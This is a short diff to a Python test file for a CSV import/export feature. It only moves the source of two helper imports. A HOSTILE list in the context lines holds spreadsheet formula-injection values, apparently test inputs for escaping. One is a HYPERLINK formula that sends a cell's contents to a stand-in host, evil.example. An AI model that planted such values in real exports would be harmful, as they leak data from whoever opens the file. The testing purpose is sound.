@@ -15,7 +15,7 @@ from laoxiao.core.importing import import_batch_create
 from laoxiao.core.models import Area, ExportLog, IdentifierReveal
 from laoxiao.people.importing import PEOPLE_IMPORTER
 from tests import factories
-from tests.test_import_export import good_row, people_csv
+from tests.factories import good_row, people_csv
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]
 
